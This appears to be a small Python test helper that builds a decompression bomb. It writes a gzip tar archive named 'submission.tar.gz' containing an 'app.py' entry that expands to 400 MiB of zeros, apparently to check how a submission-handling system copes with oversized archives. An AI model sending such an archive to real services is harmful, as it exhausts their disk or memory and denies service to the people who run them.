"""Writes a bomb."""

import pathlib
import tarfile

SIZE = 400 << 20


class Zeros:
    """A file without end."""

    def read(self, size: int) -> bytes:
        """Return as many as are asked for."""
        return bytes(size)



def make(folder: pathlib.Path) -> None:
    """Write the archive."""
    with tarfile.open(folder / "submission.tar.gz", "w:gz") as archive:
        member = tarfile.TarInfo("app.py")
        member.size = SIZE
        archive.addfile(member, Zeros())
